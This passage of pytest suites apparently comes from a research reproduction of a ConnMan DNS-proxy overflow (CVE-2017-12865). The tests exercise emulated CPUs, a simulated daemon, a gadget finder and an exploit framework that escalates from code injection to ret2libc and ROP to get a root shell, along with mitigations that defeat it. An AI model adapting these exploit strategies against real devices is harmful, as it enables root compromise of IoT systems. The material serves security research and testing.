            asm.mov_imm("r0", 0x99)
            + asm.strb("r0", "sp", -3)   # middle byte of the word at sp-4
            + asm.ldr("r1", "sp", -4)
            + b"\xff\xff\xff\xff"
        )

        def setup(process):
            process.memory.write_u32(process.sp - 4, 0x44332211)

        process, _ = run_code(scratch_space, code, setup=setup)
        # Little-endian: sp-3 is byte 1 of the word at sp-4.
        assert process.registers["r1"] == 0x44339911
