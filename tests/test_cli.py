"""Command-line interface."""

import pytest

from repro.cli import EXPERIMENTS, LEVELS, build_parser, main


class TestParser:
    def test_requires_command(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args([])

    def test_unknown_command_rejected(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args(["frobnicate"])

    def test_levels_cover_paper_ladder(self):
        assert set(LEVELS) == {"none", "wx", "wx+aslr"}

    def test_experiment_registry(self):
        assert {"E1", "E5", "E8", "E10", "E11"} <= set(EXPERIMENTS)


class TestCommands:
    def test_matrix(self, capsys):
        assert main(["matrix"]) == 0
        out = capsys.readouterr().out
        assert out.count("root shell") == 6

    def test_experiments_selected(self, capsys):
        assert main(["experiments", "--only", "E1,E6"]) == 0
        out = capsys.readouterr().out
        assert "E1:" in out and "E6:" in out and "E2:" not in out

    def test_experiments_unknown_id(self, capsys):
        assert main(["experiments", "--only", "E99"]) == 2
        assert "unknown experiment" in capsys.readouterr().err

    def test_dos(self, capsys):
        assert main(["dos", "--arch", "arm"]) == 0
        out = capsys.readouterr().out
        assert "[DOWN]" in out and "[alive]" in out

    def test_audit(self, capsys):
        assert main(["audit"]) == 0
        out = capsys.readouterr().out
        assert "CVE-2017-12865" in out and "openelec-8" in out

    def test_gadgets_filter(self, capsys):
        assert main(["gadgets", "--arch", "arm", "--contains", "blx r3"]) == 0
        out = capsys.readouterr().out
        assert "blx r3" in out

    def test_gadgets_limit(self, capsys):
        assert main(["gadgets", "--arch", "x86", "--limit", "5"]) == 0
        out = capsys.readouterr().out
        assert "total)" in out

    def test_recon_blind(self, capsys):
        assert main(["recon", "--arch", "x86", "--aslr"]) == 0
        out = capsys.readouterr().out
        assert "(assumed)" in out and "memcpy@plt" in out

    def test_recon_sighted(self, capsys):
        assert main(["recon", "--arch", "arm"]) == 0
        assert "(assumed)" not in capsys.readouterr().out

    def test_trace_shows_chain(self, capsys):
        assert main(["trace", "--arch", "arm", "--level", "wx+aslr"]) == 0
        out = capsys.readouterr().out
        assert "blx r3" in out and "execlp@plt" in out

    def test_autogen(self, capsys):
        assert main(["autogen", "--arch", "x86", "--level", "wx"]) == 0
        out = capsys.readouterr().out
        assert "verdict: root shell via ret2libc" in out

    def test_offpath_small(self, capsys):
        assert main(["offpath", "--burst", "2048", "--max-queries", "256"]) == 0
        assert "code execution" in capsys.readouterr().out

    def test_bruteforce(self, capsys):
        assert main(["bruteforce", "--max-attempts", "2048"]) == 0
        assert "root shell" in capsys.readouterr().out
