"""Daemon lifecycle, proxy data path, and overflow semantics."""

import pytest

from repro.connman import ConnmanDaemon, EventKind
from repro.core import naive_overflow_blob
from repro.defenses import NONE, WX_ASLR, ProtectionProfile
from repro.dns import (
    Message,
    SimpleDnsServer,
    StubResolver,
    build_raw_response,
    fixed_blob_server,
    make_query,
)
from tests.conftest import fresh_daemon


def crash_reply(query_id=0xD05):
    query = make_query(query_id, "crash.example")
    return build_raw_response(query, naive_overflow_blob()), query_id


class TestLifecycle:
    def test_boot_state(self):
        daemon = fresh_daemon("x86")
        assert daemon.alive and not daemon.compromised
        assert daemon.boots == 1
        assert daemon.loaded.process.uid == 0  # runs as root, as shipped

    def test_crash_marks_daemon_down(self):
        daemon = fresh_daemon("x86")
        reply, qid = crash_reply()
        daemon.handle_upstream_reply(reply, expected_id=qid)
        assert not daemon.alive

    def test_down_daemon_drops_everything(self):
        daemon = fresh_daemon("x86")
        reply, qid = crash_reply()
        daemon.handle_upstream_reply(reply, expected_id=qid)
        event = daemon.handle_upstream_reply(reply, expected_id=qid)
        assert event.kind == EventKind.DROPPED and "down" in event.detail

    def test_restart_revives(self):
        daemon = fresh_daemon("x86")
        reply, qid = crash_reply()
        daemon.handle_upstream_reply(reply, expected_id=qid)
        daemon.restart()
        assert daemon.alive
        assert daemon.boots == 2

    def test_restart_redraws_aslr(self):
        daemon = fresh_daemon("x86", profile=WX_ASLR)
        first = daemon.loaded.layout.libc_base
        bases = set()
        for _ in range(6):
            daemon.restart()
            bases.add(daemon.loaded.layout.libc_base)
        assert bases != {first}

    def test_restart_keeps_layout_without_aslr(self):
        daemon = fresh_daemon("arm", profile=NONE)
        first = daemon.loaded.layout
        daemon.restart()
        assert daemon.loaded.layout == first

    def test_status_line(self):
        text = fresh_daemon("arm", profile=WX_ASLR).status()
        assert "1.34" in text and "W^X+ASLR" in text and "running" in text

    def test_upstream_timeout_dropped(self):
        daemon = fresh_daemon("x86")
        event = daemon.handle_upstream_reply(None)
        assert event.kind == EventKind.DROPPED


class TestProxyPath:
    def test_full_resolution(self):
        daemon = fresh_daemon("x86")
        upstream = SimpleDnsServer(zone={"www.example.com": "93.184.216.34"})
        result = StubResolver().resolve(
            lambda packet: daemon.handle_client_query(packet, upstream.handle_query),
            "www.example.com",
        )
        assert result.address == "93.184.216.34"

    def test_second_lookup_served_from_cache(self):
        daemon = fresh_daemon("x86")
        upstream = SimpleDnsServer(zone={"a.example": "1.1.1.1"})
        transport = lambda packet: daemon.handle_client_query(packet, upstream.handle_query)
        resolver = StubResolver()
        resolver.resolve(transport, "a.example")
        resolver.resolve(transport, "a.example")
        assert len(upstream.log) == 1  # upstream consulted once

    def test_malicious_upstream_compromises_via_proxy(self):
        from repro.core import AttackScenario, attacker_knowledge
        from repro.exploit import builder_for

        daemon = fresh_daemon("x86", profile=NONE)
        exploit = builder_for("x86", NONE).build(
            attacker_knowledge(AttackScenario("x86", "none", NONE))
        )
        server = fixed_blob_server(exploit.blob)
        query = make_query(0xAB, "lure.example")
        response = daemon.handle_client_query(query.encode(), server.handle_query)
        assert response is None  # the daemon never answered: it is a shell now
        assert daemon.compromised
        assert daemon.last_event.spawn.uid == 0

    def test_client_garbage_ignored(self):
        daemon = fresh_daemon("x86")
        assert daemon.handle_client_query(b"junk", lambda _q: None) is None

    def test_upstream_timeout_gives_no_answer(self):
        daemon = fresh_daemon("x86")
        query = make_query(0xAC, "slow.example")
        assert daemon.handle_client_query(query.encode(), lambda _q: None) is None
        assert daemon.alive


class TestOverflowMechanics:
    def test_crash_is_sigsegv_from_pattern_pc(self):
        daemon = fresh_daemon("x86")
        reply, qid = crash_reply()
        event = daemon.handle_upstream_reply(reply, expected_id=qid)
        assert event.signal == "SIGSEGV"
        # eip was loaded with 'AAAA'-ish bytes from the oversized name.
        assert event.execution is not None
        assert event.execution.fault.address & 0xFF == ord("A")

    def test_expansion_really_wrote_the_stack(self):
        daemon = fresh_daemon("x86")
        place = daemon.proxy.placement()
        reply, qid = crash_reply()
        daemon.handle_upstream_reply(reply, expected_id=qid)
        memory = daemon.loaded.process.memory
        assert memory.read(place.name_address + 100, 4) == b"AAAA"
        assert memory.read(place.ret_slot, 2) == b"AA"

    def test_patched_version_never_writes_past_buffer(self):
        daemon = fresh_daemon("x86", version="1.35")
        place = daemon.proxy.placement()
        reply, qid = crash_reply()
        event = daemon.handle_upstream_reply(reply, expected_id=qid)
        assert event.kind == EventKind.DROPPED
        # The return slot still holds the legitimate return address, not
        # attacker bytes: the bounds check fired before the copy ran over.
        memory = daemon.loaded.process.memory
        assert memory.read_u32(place.ret_slot) == daemon.loaded.address_of("dnsproxy_resume")
        assert b"A" not in memory.read(place.name_address + 1024, 16)

    def test_every_vulnerable_version_crashes(self):
        reply, qid = crash_reply()
        for minor in (24, 28, 31, 33, 34):
            daemon = fresh_daemon("x86", version=f"1.{minor}")
            event = daemon.handle_upstream_reply(reply, expected_id=qid)
            assert event.kind == EventKind.CRASHED, minor

    def test_every_fixed_version_survives(self):
        reply, qid = crash_reply()
        for minor in (35, 36, 37):
            daemon = fresh_daemon("x86", version=f"1.{minor}")
            event = daemon.handle_upstream_reply(reply, expected_id=qid)
            assert event.kind == EventKind.DROPPED, minor

    def test_arm_null_slot_corruption_aborts(self):
        """Overflow that tramples the NULL sentinels without hijacking
        cleanly triggers the §III-A2 abort path."""
        from repro.exploit import fill, fixed, plan_labels, p32

        daemon = fresh_daemon("arm")
        frame = daemon.frame
        place = daemon.proxy.placement()
        # Write a clean frame except non-NULL sentinels and a valid ret.
        fields = [
            fill(min(frame.null_slot_offsets), b"\x00"),
            fixed(b"\x41\x41\x41\x41" * 2),  # sentinels now non-NULL
            fill(frame.ret_offset - min(frame.null_slot_offsets) - 8, b"\x00"),
            fixed(p32(daemon.loaded.address_of("dnsproxy_resume"))),
        ]
        plan = plan_labels(fields)
        query = make_query(3, "x.example")
        reply = build_raw_response(query, plan.blob)
        event = daemon.handle_upstream_reply(reply, expected_id=3)
        assert event.kind == EventKind.CRASHED
        assert event.signal == "SIGABRT"
        assert "sentinel" in event.detail

    def test_events_accumulate(self):
        daemon = fresh_daemon("x86")
        reply, qid = crash_reply()
        daemon.handle_upstream_reply(reply, expected_id=qid)
        assert len(daemon.events) == 1
        assert daemon.last_event is daemon.events[-1]


class TestDiversitySeedBoot:
    def test_diversified_daemon_boots_and_serves(self):
        daemon = fresh_daemon("arm", profile=ProtectionProfile(diversity_seed=5))
        upstream = SimpleDnsServer(zone={"d.example": "4.4.4.4"})
        result = StubResolver().resolve(
            lambda packet: daemon.handle_client_query(packet, upstream.handle_query),
            "d.example",
        )
        assert result.address == "4.4.4.4"
