"""Extended x86 subset: logic/shifts/xchg, memory MOVs, indirect branches."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.cpu import IllegalInstruction, Process, make_emulator
from repro.cpu.x86 import asm
from repro.cpu.x86.disasm import decode
from repro.mem import AddressSpace, Perm

from tests.test_cpu_x86 import run_code


class TestDecode:
    def test_and_or(self):
        assert decode(asm.and_reg_reg("eax", "ebx"), 0).mnemonic == "and"
        assert decode(asm.or_reg_reg("ecx", "edx"), 0).mnemonic == "or"

    def test_not_neg(self):
        assert decode(asm.not_reg("esi"), 0).operands == ("esi",)
        assert decode(asm.neg_reg("edi"), 0).mnemonic == "neg"

    def test_shifts_mask_count(self):
        insn = decode(asm.shl_reg_imm8("eax", 36), 0)
        assert insn.operands == ("eax", 4)

    def test_xchg_row(self):
        insn = decode(asm.xchg_eax_reg("ecx"), 0)
        assert insn.mnemonic == "xchg" and insn.operands == ("eax", "ecx")

    def test_xchg_eax_eax_is_nop(self):
        # 0x90 decodes as nop, never as xchg.
        assert decode(b"\x90", 0).mnemonic == "nop"

    def test_indirect_jmp_text(self):
        insn = decode(asm.jmp_reg("esp"), 0)
        assert insn.text() == "jmp esp"
        assert insn.raw == b"\xff\xe4"

    def test_indirect_call(self):
        insn = decode(asm.call_reg("eax"), 0)
        assert insn.mnemonic == "call" and insn.operands == ("eax",)

    def test_esp_ebp_indirect_mov_unencodable(self):
        with pytest.raises(ValueError):
            asm.mov_mem_reg("esp", "eax")
        with pytest.raises(ValueError):
            asm.mov_reg_mem("eax", "ebp")

    def test_unsupported_group3_forms_rejected(self):
        with pytest.raises(IllegalInstruction):
            decode(b"\xf7\xc8", 0)  # test r/m, imm (group 0)


ROUNDTRIP = [
    lambda reg: asm.and_reg_reg(reg, "ebx"),
    lambda reg: asm.or_reg_reg(reg, "ecx"),
    lambda reg: asm.not_reg(reg),
    lambda reg: asm.neg_reg(reg),
    lambda reg: asm.shl_reg_imm8(reg, 3),
    lambda reg: asm.shr_reg_imm8(reg, 7),
    lambda reg: asm.call_reg(reg),
    lambda reg: asm.jmp_reg(reg),
]


@settings(max_examples=60)
@given(builder=st.sampled_from(ROUNDTRIP),
       reg=st.sampled_from(["eax", "ecx", "edx", "ebx", "esi", "edi"]))
def test_property_extended_roundtrip(builder, reg):
    code = builder(reg)
    insn = decode(code, 0x1000)
    assert insn.raw == code and not insn.is_bad


class TestExecute:
    def test_logic_ops(self, scratch_space):
        code = (
            asm.mov_reg_imm32("eax", 0xF0F0)
            + asm.mov_reg_imm32("ebx", 0x0FF0)
            + asm.and_reg_reg("eax", "ebx")     # 0x00F0
            + asm.mov_reg_imm32("ecx", 0x0F00)
            + asm.or_reg_reg("eax", "ecx")      # 0x0FF0
            + asm.hlt()
        )
        process, _ = run_code(scratch_space, code)
        assert process.registers["eax"] == 0x0FF0

    def test_not_neg(self, scratch_space):
        code = (
            asm.mov_reg_imm32("eax", 1)
            + asm.not_reg("eax")                 # 0xFFFFFFFE
            + asm.mov_reg_imm32("ebx", 5)
            + asm.neg_reg("ebx")                 # -5
            + asm.hlt()
        )
        process, _ = run_code(scratch_space, code)
        assert process.registers["eax"] == 0xFFFFFFFE
        assert process.registers["ebx"] == 0xFFFFFFFB

    def test_shifts(self, scratch_space):
        code = (
            asm.mov_reg_imm32("eax", 0x81)
            + asm.shl_reg_imm8("eax", 4)         # 0x810
            + asm.shr_reg_imm8("eax", 1)         # 0x408
            + asm.hlt()
        )
        process, _ = run_code(scratch_space, code)
        assert process.registers["eax"] == 0x408

    def test_xchg(self, scratch_space):
        code = (
            asm.mov_reg_imm32("eax", 1)
            + asm.mov_reg_imm32("edx", 2)
            + asm.xchg_eax_reg("edx")
            + asm.hlt()
        )
        process, _ = run_code(scratch_space, code)
        assert process.registers["eax"] == 2
        assert process.registers["edx"] == 1

    def test_memory_mov_roundtrip(self, scratch_space):
        code = (
            asm.mov_reg_imm32("ebx", 0x4100)
            + asm.mov_reg_imm32("eax", 0xDEAD)
            + asm.mov_mem_reg("ebx", "eax")     # [0x4100] = 0xDEAD
            + asm.mov_reg_mem("ecx", "ebx")     # ecx = [0x4100]
            + asm.hlt()
        )
        process, _ = run_code(scratch_space, code)
        assert process.memory.read_u32(0x4100) == 0xDEAD
        assert process.registers["ecx"] == 0xDEAD

    def test_store_respects_permissions(self, scratch_space):
        code = (
            asm.mov_reg_imm32("ebx", 0x1000)     # code segment is not writable?
            + asm.mov_mem_reg("ebx", "eax")
        )
        # scratch 'code' segment is RWX, so use an unmapped address instead.
        code = (
            asm.mov_reg_imm32("ebx", 0xDEAD0000)
            + asm.mov_mem_reg("ebx", "eax")
        )
        _, result = run_code(scratch_space, code)
        assert result.crashed and result.signal == "SIGSEGV"

    def test_jmp_reg_transfers(self, scratch_space):
        scratch_space.write(0x1100, asm.hlt(), check=False)
        code = asm.mov_reg_imm32("eax", 0x1100) + asm.jmp_reg("eax")
        process, _ = run_code(scratch_space, code)
        assert process.pc == 0x1100

    def test_call_reg_pushes_return(self, scratch_space):
        scratch_space.write(0x1100, asm.ret(), check=False)
        code = asm.mov_reg_imm32("eax", 0x1100) + asm.call_reg("eax") + asm.hlt()
        process, result = run_code(scratch_space, code)
        assert result.crashed  # came back and hit hlt at 0x1007
        assert process.pc == 0x1007  # mov (5) + call_reg (2)

    def test_jmp_esp_executes_stack_bytes(self, scratch_space):
        """The trampoline mechanics in isolation."""
        from repro.exploit import x86_execve_binsh

        shellcode = x86_execve_binsh()

        def setup(process):
            process.push_bytes(shellcode)

        code = asm.mov_reg_imm32("eax", 0) + asm.jmp_reg("esp")
        process, result = run_code(scratch_space, code, setup=setup)
        assert result.spawned
        assert process.spawned_root_shell


class TestGadgetDiscovery:
    def test_jmp_esp_found_in_stock_image(self, x86_binary):
        from repro.exploit import GadgetFinder

        trampolines = GadgetFinder(x86_binary).jmp_reg_gadgets("esp")
        assert trampolines
        # It lives inside __poll_timeout's immediate, not at a function start.
        assert x86_binary.symbols.resolve(trampolines[0].address).name == "__poll_timeout"
