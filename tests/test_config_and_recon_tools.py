"""main.conf parsing, fallback nameservers, and gdb-style recon tools."""

import pytest

from repro.connman import EventKind
from repro.connman.config import DEFAULT_MAIN_CONF, MainConfError, parse_main_conf
from repro.defenses import WX_ASLR
from repro.dns import SimpleDnsServer
from repro.exploit import Debugger, GadgetFinder
from repro.firmware import IoTDevice, UBUNTU_MATE_PI
from repro.net import DNS_PORT, Host, Network
from tests.conftest import fresh_daemon

MAIN_CONF = """
# /etc/connman/main.conf
[General]
FallbackNameservers = 192.168.9.1, 8.8.8.8
EnableOnlineCheck = false
SingleConnectedTechnology = yes

[Custom]
VendorThing = 42
"""


class TestMainConf:
    def test_defaults(self):
        assert DEFAULT_MAIN_CONF.fallback_nameservers == ()
        assert DEFAULT_MAIN_CONF.enable_online_check

    def test_parse_values(self):
        conf = parse_main_conf(MAIN_CONF)
        assert conf.fallback_nameservers == ("192.168.9.1", "8.8.8.8")
        assert conf.enable_online_check is False
        assert conf.single_connected_technology is True

    def test_uninterpreted_settings_kept_raw(self):
        conf = parse_main_conf(MAIN_CONF)
        assert conf.raw[("Custom", "VendorThing")] == "42"

    def test_comments_ignored(self):
        assert parse_main_conf("# only comments\n; and these\n") == DEFAULT_MAIN_CONF

    def test_bad_boolean(self):
        with pytest.raises(MainConfError, match="boolean"):
            parse_main_conf("[General]\nEnableOnlineCheck = maybe\n")

    def test_bad_line(self):
        with pytest.raises(MainConfError, match="key=value"):
            parse_main_conf("[General]\njust a sentence\n")

    def test_describe(self):
        assert "FallbackNameservers=192.168.9.1,8.8.8.8" in parse_main_conf(MAIN_CONF).describe()


class TestFallbackNameservers:
    def test_device_uses_fallback_without_dhcp_dns(self):
        network = Network("lab", subnet_prefix="192.168.9")
        resolver_host = Host("fallback-dns")
        network.attach(resolver_host, ip="192.168.9.1")
        dns = SimpleDnsServer(default_address="3.3.3.3")
        resolver_host.bind_udp(DNS_PORT, lambda payload, _d: dns.handle_query(payload))

        conf = parse_main_conf(MAIN_CONF)
        device = IoTDevice("lab-pi", UBUNTU_MATE_PI, profile=WX_ASLR, main_conf=conf)
        network.attach(device.host)  # static attach: no DHCP, no dns_server
        event = device.lookup("fallback-test.example")
        assert event.kind == EventKind.RESPONDED

    def test_no_fallback_means_no_resolution(self):
        network = Network("lab2", subnet_prefix="192.168.10")
        device = IoTDevice("lonely-pi", UBUNTU_MATE_PI, profile=WX_ASLR)
        network.attach(device.host)
        event = device.lookup("x.example")
        # No resolver at all: the upstream times out, nothing is recorded.
        assert event is None or event.kind == EventKind.DROPPED
        assert device.daemon.alive


class TestDebuggerTools:
    def test_examine_reads_words(self):
        daemon = fresh_daemon("x86")
        debugger = Debugger(daemon)
        text_base = daemon.binary.section(".text").address
        line = debugger.examine(text_base, count=2)
        assert line.startswith(f"{text_base:#010x}:")
        assert line.count("0x") >= 3

    def test_examine_reports_unmapped(self):
        daemon = fresh_daemon("x86")
        assert "<unmapped>" in Debugger(daemon).examine(0xDEAD0000, count=1)

    def test_disassemble_symbol(self):
        daemon = fresh_daemon("arm")
        listing = Debugger(daemon).disassemble("__restore_ctx")
        assert "pop {r0, r1, r2, r3, r5, r6, r7, r15}" in listing

    def test_disassemble_address(self):
        daemon = fresh_daemon("x86")
        address = daemon.loaded.address_of("__restore_all")
        listing = Debugger(daemon).disassemble(address, max_instructions=5)
        assert "pop ebx" in listing and "ret" in listing


class TestGadgetCensus:
    def test_x86_census_contains_unwind(self, x86_binary):
        census = GadgetFinder(x86_binary).census()
        assert census.get("pop^4; ret", 0) >= 1
        assert census.get("indirect jmp", 0) >= 1  # the jmp esp trampoline

    def test_arm_census_dominated_by_pop_pc(self, arm_binary):
        census = GadgetFinder(arm_binary).census()
        assert census["pop {...pc}"] > census.get("blx", 0)

    def test_census_totals_match(self, arm_binary):
        finder = GadgetFinder(arm_binary)
        assert sum(finder.census().values()) == len(finder.all_gadgets())

    def test_cli_census(self, capsys):
        from repro.cli import main

        assert main(["gadgets", "--arch", "x86", "--census"]) == 0
        assert "pop^4; ret" in capsys.readouterr().out
