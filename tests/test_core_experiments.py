"""Integration: the paper experiments E1–E8 and the scenario runner."""

import pytest

from repro.connman import EventKind
from repro.core import (
    PAPER_MATRIX,
    AttackScenario,
    PineappleWorld,
    attacker_knowledge,
    diversity_survival,
    e1_dos,
    e2_code_injection,
    e3_wx_bypass,
    e4_aslr_bypass,
    e5_pineapple,
    e6_firmware_survey,
    e7_mitigations,
    e8_adaptation,
    naive_overflow_blob,
    render_table,
    run_paper_matrix,
    run_scenario,
)
from repro.defenses import NONE, WX, WX_ASLR


class TestRenderTable:
    def test_columns_aligned(self):
        table = render_table(("a", "bb"), [("x", 1), ("yyyy", 22)], title="T")
        lines = table.splitlines()
        assert lines[0] == "T"
        assert "yyyy" in table and "22" in table

    def test_cells_stringified(self):
        assert "True" in render_table(("v",), [(True,)])


class TestScenarios:
    def test_matrix_has_six_cells(self):
        assert len(PAPER_MATRIX) == 6
        assert {s.arch for s in PAPER_MATRIX} == {"x86", "arm"}

    def test_every_cell_roots(self):
        results = run_paper_matrix()
        assert all(result.succeeded for result in results), [
            result.row() for result in results
        ]

    def test_strategy_escalates_with_protections(self):
        results = {result.scenario.key: result for result in run_paper_matrix()}
        assert results["x86/none"].exploit.strategy == "code-injection"
        assert results["x86/W^X"].exploit.strategy == "ret2libc"
        assert results["x86/W^X+ASLR"].exploit.strategy == "rop"

    def test_patched_version_defeats_every_cell(self):
        for scenario in PAPER_MATRIX:
            patched = AttackScenario(
                scenario.arch, scenario.level_label, scenario.profile, version="1.35"
            )
            result = run_scenario(patched)
            assert not result.succeeded
            assert result.event.kind == EventKind.DROPPED

    def test_attacker_knowledge_blindness_follows_profile(self):
        sighted = attacker_knowledge(AttackScenario("x86", "none", NONE))
        blind = attacker_knowledge(AttackScenario("x86", "full", WX_ASLR))
        assert sighted.name_address is not None
        assert blind.name_address is None

    def test_row_format(self):
        result = run_scenario(AttackScenario("arm", "W^X", WX))
        arch, level, strategy, outcome = result.row()
        assert (arch, level) == ("arm", "W^X")
        assert outcome == "root shell"


class TestExperimentResults:
    """Each experiment's internal expectation column must be all-ok."""

    def test_e1(self):
        result = e1_dos()
        assert result.all_pass
        assert len(result.rows) == 4

    def test_e2(self):
        result = e2_code_injection()
        assert result.all_pass
        assert len(result.rows) == 4  # 2 successes + 2 W^X blocks

    def test_e3(self):
        result = e3_wx_bypass()
        assert result.all_pass
        assert len(result.rows) == 5

    def test_e4(self):
        result = e4_aslr_bypass()
        assert result.all_pass
        assert len(result.rows) == 3

    def test_e5(self):
        result = e5_pineapple()
        assert result.all_pass
        assert len(result.rows) == 4  # x86 feasibility + 3 ARM levels

    def test_e6(self):
        result = e6_firmware_survey()
        assert result.all_pass

    def test_e7(self):
        result = e7_mitigations()
        assert result.all_pass
        mitigations = {row[0] for row in result.rows}
        assert mitigations == {
            "patch to 1.35", "stack canary", "CFI (shadow stack)",
            "ret-addr guard (§VII)", "software diversity",
        }

    def test_e8(self):
        result = e8_adaptation(profiles=(("W^X+ASLR", WX_ASLR),))
        assert result.all_pass
        assert len(result.rows) == 6  # one per §V service

    def test_describe_renders(self):
        text = e6_firmware_survey().describe()
        assert "E6" in text and "openelec-8" in text


class TestSupportingPieces:
    def test_naive_blob_shape(self):
        blob = naive_overflow_blob(200)
        assert blob[0] == 63
        assert blob.endswith(b"\x00")

    def test_pineapple_world_has_legit_infrastructure(self):
        world = PineappleWorld.build("TestNet")
        assert world.radio.scan()[0].ssid == "TestNet"
        assert world.legit_dns.default_address is not None

    def test_diversity_survival_partial(self):
        reports = diversity_survival("arm", seeds=3)
        assert len(reports) == 3
        for report in reports:
            assert report.gadget_survival_rate < 0.9
