"""Delivery pipeline and the automated exploit generator (§VII)."""

import pytest

from repro.connman import EventKind
from repro.defenses import NONE, WX, WX_ASLR, FULL, ProtectionProfile
from repro.exploit import (
    AutoExploiter,
    builder_for,
    deliver,
    generate,
    malicious_server_for,
)
from repro.core import AttackScenario, attacker_knowledge
from tests.conftest import fresh_daemon


class TestDelivery:
    def test_report_fields(self):
        knowledge = attacker_knowledge(AttackScenario("x86", "none", NONE))
        exploit = builder_for("x86", NONE).build(knowledge)
        report = deliver(exploit, fresh_daemon("x86", profile=NONE), lure_name="l.example")
        assert report.lure_name == "l.example"
        assert report.got_root_shell
        assert not report.crashed_daemon
        assert "x86-code-injection" in report.describe()

    def test_malicious_server_serves_exploit_blob(self):
        knowledge = attacker_knowledge(AttackScenario("x86", "none", NONE))
        exploit = builder_for("x86", NONE).build(knowledge)
        server = malicious_server_for(exploit)
        from repro.dns import make_query

        reply = server.handle_query(make_query(3, "x.example").encode())
        assert exploit.blob in reply

    def test_generate_respects_profile(self):
        knowledge = attacker_knowledge(AttackScenario("arm", "W^X", WX))
        exploit = generate(knowledge, WX)
        assert exploit.strategy == "ret2libc"


class TestAutoExploiter:
    def test_first_rung_wins_without_protections(self):
        victim = fresh_daemon("x86", profile=NONE)
        result = AutoExploiter(victim).run()
        assert result.succeeded
        assert result.winning_strategy == "code-injection"
        assert len(result.attempts) == 1

    def test_second_rung_after_wx_crash(self):
        victim = fresh_daemon("x86", profile=WX)
        result = AutoExploiter(victim).run()
        assert result.succeeded
        assert result.winning_strategy == "ret2libc"
        assert victim.boots == 2  # one respawn after the code-injection crash

    def test_third_rung_under_full_protections(self):
        victim = fresh_daemon("arm", profile=WX_ASLR)
        result = AutoExploiter(victim).run()
        assert result.succeeded
        assert result.winning_strategy == "rop"
        assert len(result.attempts) == 3

    def test_fully_hardened_victim_defeats_ladder(self):
        victim = fresh_daemon("arm", profile=FULL)
        result = AutoExploiter(victim).run()
        assert not result.succeeded
        assert result.winning_strategy is None

    def test_patched_victim_defeats_ladder(self):
        victim = fresh_daemon("x86", version="1.35", profile=NONE)
        result = AutoExploiter(victim).run()
        assert not result.succeeded
        # Nothing ever crashed it, either.
        assert victim.boots == 1

    def test_describe_lists_attempts(self):
        victim = fresh_daemon("x86", profile=WX)
        text = AutoExploiter(victim).run().describe()
        assert "code-injection" in text and "verdict" in text

    def test_diversity_defeats_ladder(self):
        victim = fresh_daemon(
            "x86", profile=ProtectionProfile(wx=True, aslr=True, diversity_seed=9)
        )
        result = AutoExploiter(victim).run()
        assert not result.succeeded
