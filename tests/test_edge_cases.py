"""Edge cases across layers that the main suites don't reach."""

import pytest

from repro.connman import ConnmanDaemon, EventKind
from repro.core import AttackScenario, attacker_knowledge
from repro.defenses import NONE, WX_ASLR
from repro.dns import build_raw_response, encode_pointer, make_query
from repro.exploit import builder_for, deliver, fill, plan_labels
from tests.conftest import fresh_daemon


class TestCrossArchDelivery:
    """Payloads built for one ISA delivered to the other: crash, not shell."""

    def test_x86_rop_vs_arm_daemon(self, knowledge_x86_blind):
        from repro.exploit import X86RopMemcpyExeclp

        exploit = X86RopMemcpyExeclp().build(knowledge_x86_blind)
        victim = fresh_daemon("arm", profile=WX_ASLR)
        report = deliver(exploit, victim)
        assert report.event.kind == EventKind.CRASHED
        assert not report.got_root_shell

    def test_arm_rop_vs_x86_daemon(self, knowledge_arm_blind):
        from repro.exploit import ArmRopMemcpyExeclp

        exploit = ArmRopMemcpyExeclp().build(knowledge_arm_blind)
        victim = fresh_daemon("x86", profile=WX_ASLR)
        report = deliver(exploit, victim)
        assert report.event.kind == EventKind.CRASHED


class TestMultiRecordReplies:
    def test_multiple_answers_all_parsed(self):
        from repro.dns import Message, ResourceRecord, make_response

        daemon = fresh_daemon("x86")
        query = make_query(3, "multi.example")
        answers = tuple(
            ResourceRecord.a(f"multi-{index}.example", f"10.1.1.{index}")
            for index in range(3)
        )
        reply = make_response(query, answers)
        event = daemon.handle_upstream_reply(reply.encode(), expected_id=3)
        assert event.kind == EventKind.RESPONDED
        assert len(event.cached) == 3

    def test_too_many_answers_dropped(self):
        import struct

        daemon = fresh_daemon("x86")
        # Forge a header claiming 200 answers.
        header = struct.pack(">HHHHHH", 9, 0x8180, 0, 200, 0, 0)
        event = daemon.handle_upstream_reply(header + b"\x00" * 32, expected_id=9)
        assert event.kind == EventKind.DROPPED
        assert "unreasonable" in event.detail

    def test_second_answer_can_carry_the_overflow(self):
        """A benign first answer doesn't save the daemon from a malicious
        second one — get_name runs per record."""
        import struct

        from repro.core import naive_overflow_blob
        from repro.dns import encode_name, ip4_to_bytes

        daemon = fresh_daemon("x86")
        query = make_query(0x21, "two.example")
        benign_answer = (
            encode_name("two.example")
            + struct.pack(">HHIH", 1, 1, 60, 4)
            + ip4_to_bytes("1.1.1.1")
        )
        evil_answer = (
            naive_overflow_blob()
            + struct.pack(">HHIH", 1, 1, 60, 4)
            + ip4_to_bytes("6.6.6.6")
        )
        header = struct.pack(">HHHHHH", 0x21, 0x8180, 1, 2, 0, 0)
        packet = header + query.questions[0].encode() + benign_answer + evil_answer
        event = daemon.handle_upstream_reply(packet, expected_id=0x21)
        assert event.kind == EventKind.CRASHED


class TestPointerEdgeCases:
    def test_forward_pointer_accepted(self):
        daemon = fresh_daemon("x86")
        query = make_query(5, "fwd.example")
        # Name: pointer to offset 12 (the question name itself).
        blob = encode_pointer(12)
        reply = build_raw_response(query, blob)
        event = daemon.handle_upstream_reply(reply, expected_id=5)
        assert event.kind == EventKind.RESPONDED

    def test_self_pointer_loop_dropped_or_crashed_cleanly(self):
        import struct

        daemon = fresh_daemon("x86")
        # No question; the answer name at offset 12 points at itself.
        header = struct.pack(">HHHHHH", 7, 0x8180, 0, 1, 0, 0)
        answer = encode_pointer(12) + struct.pack(">HHIH", 1, 1, 60, 4) + b"\x01\x02\x03\x04"
        event = daemon.handle_upstream_reply(header + answer, expected_id=7)
        # The jump budget catches it: dumped as malformed, daemon intact.
        assert event.kind == EventKind.DROPPED
        assert daemon.alive

    def test_pointer_past_packet_dropped(self):
        daemon = fresh_daemon("x86")
        query = make_query(8, "oob.example")
        blob = encode_pointer(0x3FF)
        reply = build_raw_response(query, blob)
        event = daemon.handle_upstream_reply(reply, expected_id=8)
        assert event.kind == EventKind.DROPPED


class TestHexdump:
    def test_boundaries_marked(self):
        plan = plan_labels([fill(130)])
        dump = plan.hexdump()
